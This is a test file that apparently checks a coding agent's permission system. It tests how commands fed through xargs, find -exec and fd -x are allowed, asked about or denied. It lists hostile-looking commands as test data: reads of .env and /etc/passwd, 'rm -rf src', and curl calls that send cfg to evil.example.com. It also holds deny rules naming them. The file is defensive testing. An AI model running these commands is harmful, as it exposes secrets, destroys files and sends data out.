/** Arguments that `xargs` gets from a text which the command itself holds. */
import { describe, expect, test } from 'vitest';
import { createPermissions } from '../../../core/permission/permission.ts';
import { makeSmallProject } from './small-project.ts';

const { project, home, verdict } = makeSmallProject();
const denied = async (rule: string, command: string) => {
  const permissions = createPermissions({
    project,
    directories: [],
    allow: [],
    ask: [],
    deny: [rule],
    home,
    adaHome: `${home}/.ada`,
  });
  const access = { kind: 'command', command, cwd: project } as const;
  return (await permissions.judge({ tool: 'bash', access, mode: 'auto', cwd: project })).verdict;
};

test.each([
  'echo src/a.ts README.md | xargs cat',
  'echo src/a.ts | xargs -n 1 wc -l',
  "printf 'README.md\\ncfg\\n' | xargs -I{} head -1 {}",
  'echo new.txt | xargs touch',
  'echo cfg README.md | xargs -n2 head -1',
  'xargs cat <<< cfg',
  'echo cfg | xargs -P2 -r cat',
  `echo '"src/a.ts" cfg' | xargs cat`,
])('is allowed as the command itself would be: %s', async (command) => {
  expect(await verdict(command)).toBe('allow');
});

test.each([
  'echo .env | xargs cat',
  'echo -rf src | xargs rm',
  'echo src | xargs rm -rf',
  'echo /etc/passwd | xargs cat',
  "printf '.env\\n' | xargs -I{} cat {}",
  'echo "$X" | xargs cat',
  'echo a.txt | xargs -a list cat',
  "printf 'cfg,.env' | xargs -d, cat",
  'echo ../x | xargs touch',
  'xargs cat <<< .env',
  `echo '".env"' | xargs cat`,
  'echo .env | xargs -ir cat r',
  'echo v | xargs -i cat .en{}',
  "printf '.env\\0cfg' | xargs -0 cat",
  "echo 'rm -rf src' | xargs -I{} sh -c {}",
])('asks as the command itself would: %s', async (command) => {
  expect(await verdict(command)).not.toBe('allow');
});

describe('a rule that forbids', () => {
  test.each([
    ['read_file(cfg)', 'echo cfg | xargs cat'],
    ['read_file(cfg)', "printf 'README.md\\ncfg\\n' | xargs -n1 head"],
    ['write_file(cfg)', 'echo cfg | xargs touch'],
    ['bash(rm *)', 'echo cfg | xargs rm'],
    ['bash(rm *)', 'ls | xargs rm'],
    ['bash(echo secret*)', 'xargs echo secret < cfg'],
    ['bash(echo secret*)', 'echo x | xargs echo secret'],
    ['bash(echo bad*)', `echo '"bad"' | xargs echo`],
    ['bash(git push origin main)', 'echo main | xargs git push origin'],
    ['bash(git push origin main)', 'echo origin main | xargs git push'],
    ['bash(git push origin main)', 'echo main | xargs -n1 -P4 git push origin'],
    ['bash(git push origin main)', 'echo main | xargs -i git push origin {}'],
    ['bash(git push origin main)', "printf 'main\\nside\\n' | xargs -d '\\n' -n1 git push origin"],
    ['bash(git push origin main)', 'xargs git push origin <<< main'],
    ['bash(git push origin main)', `echo main | xargs -I% sh -c 'git push origin %'`],
    ['bash(git push *)', 'cat cfg | xargs git push'],
    ['bash(git push *)', 'echo push | xargs git'],
    ['bash(npm publish*)', 'xargs -a cfg npm publish'],
    ['bash(npm publish*)', 'fd x -x npm publish'],
    ['bash(npm publish*)', "find . -name x -exec npm publish {} ';'"],
    ['bash(curl *evil*)', 'echo https://evil.example.com | xargs -n1 curl -s'],
    ['bash(curl *evil*)', 'cat cfg | xargs curl https://evil.example.com'],
    ['read_file(cfg)', 'xargs cat cfg < README.md'],
    ['read_file(cfg)', 'xargs grep -f cfg < README.md'],
    ['read_file(cfg)', 'echo README.md cfg | xargs -n2 cat'],
    ['edit_file(cfg)', 'xargs sed -i s/a/b/ cfg < README.md'],
    ['edit_file(cfg)', 'echo x | xargs tee cfg'],
  ])('%s binds %s', async (rule, command) => {
    expect(await denied(rule, command)).toBe('deny');
  });

  test.each([
    ['bash(git push origin main)', 'echo side | xargs git push origin'],
    ['bash(echo secret*)', 'printf secret | xargs echo x'],
    ['read_file(cfg)', 'echo README.md | xargs cat'],
    ['edit_file(cfg)', 'echo cfg | xargs cat'],
  ])('%s leaves %s alone', async (rule, command) => {
    expect(await denied(rule, command)).toBe('allow');
  });
});
